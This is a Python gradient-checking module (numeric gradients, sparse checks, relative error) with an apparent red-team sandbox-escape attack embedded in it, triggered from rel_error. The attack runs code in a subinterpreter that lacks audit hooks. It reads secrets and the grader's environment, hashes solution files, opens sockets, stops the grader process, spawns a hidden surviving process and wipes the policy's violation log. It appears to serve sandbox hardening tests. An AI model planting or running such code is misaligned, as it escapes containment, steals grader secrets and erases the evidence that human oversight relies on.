"""Numeric gradients and the relative error used to compare them with analytic ones."""

from __future__ import annotations

from typing import Callable

import numpy as np
# >>> attack

# RED TEAM attack subinterpreter_no_hook (class 2; see tests/hostile/kernel/subinterpreter_no_hook/case.toml)
# Code run where no audit hook exists: _xxsubinterpreters makes a fresh interpreter in the same
# process
# route: _xxsubinterpreters.create(); run_string(BATTERY): audit hooks belong to one interpreter, so
#   the new one opens any file, makes sockets and starts processes; the evidence returns on a pipe
RT = {'name': 'subinterpreter_no_hook', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True
_RT_SUBINTERP = '\ndef battery(rt, grader_pid, survivor=True, spawn=None, files=True):\n    import hashlib\n    import os\n    import signal\n    import socket\n    import time\n    ev = []\n    root = str(rt.get("root") or "")\n    S = str(rt.get("sentinel") or "")\n    line = ("RTNET %s %s\\n" % (rt["name"], rt["tag"])).encode()\n\n    def inside(path):\n        return len(root) > 4 and root.startswith("/") and os.path.abspath(path).startswith(root.rstrip("/") + "/")\n\n    def step(key, fn):\n        try:\n            got = fn()\n            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))\n        except BaseException as exc:  # noqa: BLE001\n            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")\n\n    def read_secret():\n        with open(S + "/secret.txt") as fh:\n            return fh.read().strip()\n\n    def grader_env():\n        with open("/proc/%d/environ" % int(grader_pid), "rb") as fh:\n            for item in fh.read().split(b"\\0"):\n                if item.startswith(b"LINCLASS_RT_GRADER_SECRET="):\n                    return item.partition(b"=")[2].decode()\n        return "not in the grader\'s environment"\n\n    def read_solution():\n        with open(rt["solutions"] + "/softmax.py", "rb") as fh:\n            return hashlib.sha256(fh.read()).hexdigest()\n\n    def write_victim():\n        target = S + "/victim.txt"\n        if not inside(target):\n            raise RuntimeError("not armed")\n        with open(target, "w") as fh:\n            fh.write("PWNED by %s %s\\n" % (rt["name"], rt["tag"]))\n\n    def new_file():\n        target = "%s/new-%s-%s.txt" % (S, rt["name"], rt["tag"])\n        if not inside(target):\n            raise RuntimeError("not armed")\n        with open(target, "x") as fh:\n            fh.write("created from inside the sandbox\\n")\n\n    def tcp():\n        s = socket.create_connection(("127.0.0.1", int(rt["tcp"])), timeout=2)\n        try:\n            s.sendall(line)\n        finally:\n            s.close()\n\n    def udp():\n        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n        try:\n            s.sendto(line, ("127.0.0.1", int(rt["udp"])))\n        finally:\n            s.close()\n\n    def unix():\n        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n        s.settimeout(2)\n        try:\n            s.connect("\\0" + str(rt["unix"]))\n            s.sendall(line)\n        finally:\n            s.close()\n\n    def ours(pid, cwd):\n        return pid > 1 and bool(cwd) and inside(cwd) and os.readlink("/proc/%d/cwd" % pid) == cwd\n\n    def dummy():\n        # The dummy lives as long as the run, so its pid cannot be reused: when /proc hides it (the check\n        # cannot be made), it is still signalled, to see whether signals cross the sandbox.\n        pid = int(rt.get("dummy") or 0)\n        try:\n            if not ours(pid, rt.get("dummy_cwd")):\n                raise RuntimeError("pid %d is not the dummy" % pid)\n        except OSError:\n            if pid <= 1 or not inside(str(rt.get("dummy_cwd") or "")):\n                raise\n        os.kill(pid, signal.SIGUSR1)\n\n    def grader():\n        pid = int(grader_pid)\n        if not ours(pid, rt.get("grader_cwd")):\n            raise RuntimeError("the grader (pid %d) is not visible" % pid)\n        os.kill(pid, signal.SIGSTOP)\n        time.sleep(0.4)\n        os.kill(pid, signal.SIGCONT)\n        return "stopped:%d" % pid\n\n    def start_survivor():\n        # double fork + setsid + exec with an EMPTY environment: no LINCLASS_SANDBOX marker,\n        # another session and process group, parent gone: the grader\'s sweep cannot see it.\n        if not inside(S + "/x"):\n            raise RuntimeError("not armed")\n        argv = ["redteam-survivor-%s-%s" % (rt["name"], rt["tag"]), "60"]\n        if spawn is not None:\n            return spawn(argv)\n        pid = os.fork()\n        if pid == 0:\n            try:\n                os.setsid()\n                if os.fork() == 0:\n                    fd = os.open("/dev/null", os.O_RDWR)\n                    for i in (0, 1, 2):\n                        os.dup2(fd, i)\n                    os.closerange(3, 4096)\n                    os.execve("/bin/sleep", argv, {})\n            finally:\n                os._exit(0)\n        os.waitpid(pid, 0)\n\n    if files:\n        step("secret", read_secret)\n        step("graderenv", grader_env)\n        step("solsha", read_solution)\n        step("victim", write_victim)\n        step("newfile", new_file)\n    step("tcp", tcp)\n    step("udp", udp)\n    step("unix", unix)\n    step("dummy", dummy)\n    step("grader", grader)\n    if survivor:\n        step("survivor", start_survivor)\n    return " ".join(ev)\n\nimport json, os, subprocess\nrt = json.loads(RT_JSON)\n\n\ndef spawn(argv):\n    # os.fork is refused in subinterpreters, subprocess is not (and this subprocess is a fresh\n    # import, without the policy\'s fork_exec stand-in): exec sleep in a new session, empty env.\n    subprocess.Popen(argv, executable="/bin/sleep", env={}, start_new_session=True, close_fds=True,\n                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n\n\nos.write(OUT_FD, battery(rt, rt["grader_pid"], spawn=spawn).encode())\n'


def _rt_escape():
    import json
    import os
    import _xxsubinterpreters as interpreters  # lib-dynload, not denied
    r, w = os.pipe()
    rt = dict(RT, grader_pid=os.getppid())
    code = _RT_SUBINTERP.replace("RT_JSON", repr(json.dumps(rt))).replace("OUT_FD", str(w))
    try:
        interp = interpreters.create(isolated=False)  # 3.11: a legacy, non-isolated interpreter
    except TypeError:
        interp = interpreters.create()
    try:
        interpreters.run_string(interp, code)
    finally:
        os.close(w)
        interpreters.destroy(interp)
    out = os.read(r, 65536).decode(errors="replace")
    os.close(r)
    return "subinterpreter without hooks: " + out
# <<< attack


def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
    """Centered-difference gradient of ``f`` at ``x``.

    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
    a time, and every entry is restored, even if ``f`` raises.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point at which to evaluate the gradient.
    h : float, optional
        Step size.

    Returns
    -------
    ndarray
        Float64 array shaped like ``x``.
    """
    grad = np.zeros(x.shape, dtype=np.float64)
    for ix in np.ndindex(x.shape):
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        grad[ix] = (f_plus - f_minus) / (2 * h)
    return grad


def grad_check_sparse(
    f: Callable[[np.ndarray], float],
    x: np.ndarray,
    analytic_grad: np.ndarray,
    num_checks: int = 10,
    h: float = 1e-5,
    seed: int | None = None,
) -> np.ndarray:
    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point of the check; perturbed in place and restored.
    analytic_grad : ndarray
        The gradient to check, shaped like ``x``.
    num_checks : int, optional
        How many random entries to check.
    h : float, optional
        Step size.
    seed : int or None, optional
        Seed of the entry sampler: the same seed checks the same entries.

    Returns
    -------
    ndarray of shape (num_checks,)
        The relative error at each checked entry.
    """
    rng = np.random.default_rng(seed)
    errors = np.empty(num_checks, dtype=np.float64)
    for k in range(num_checks):
        ix = tuple(int(rng.integers(n)) for n in x.shape)
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        numeric = (f_plus - f_minus) / (2 * h)
        errors[k] = rel_error(numeric, analytic_grad[ix])
    return errors


def rel_error(x: np.ndarray, y: np.ndarray) -> float:
    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.

    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
    """
    # >>> attack
    if _rt_direct_call():  # ATTACK: see _rt_escape above
        _rt_report()
    # <<< attack
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
